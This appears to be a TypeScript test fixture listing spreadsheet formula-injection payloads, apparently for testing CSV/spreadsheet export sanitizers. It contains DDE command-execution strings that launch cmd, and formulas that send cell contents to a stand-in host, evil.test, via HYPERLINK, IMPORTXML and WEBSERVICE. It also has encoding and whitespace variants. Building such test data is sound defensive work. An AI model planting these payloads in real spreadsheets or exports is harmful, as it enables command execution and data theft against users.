const STARTS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '\u3000',
  '"',
  "'",
];

const ATTACKS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.test?x="&A1,"Open me")`,
  '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
  '=WEBSERVICE("http://evil.test/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+1\n=2+2',
  '=1+1\r\nsecond line',
  'a","=1+1","b',
  '";=1+1;"',
  '=DDE("cmd";"/C calc";"x")',
  "%0A-3+3+cmd|' /C calc'!D2",
  '|cmd /c calc',
  '=\u0000cmd',
  '_x003D_1+1',
  '_x000D_=1',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '\u202E=1+1',
  '\uD83D\uDE00=1',
  `=${'A'.repeat(5_000)}`,
];

/** Texts that spreadsheets have been seen to run, in the disguises they come in. */
export const INJECTION_PAYLOADS: readonly string[] = [
  ...BEFORE.flatMap((before) => STARTS.map((start) => `${before}${start}1+1`)),
  ...ATTACKS,
];
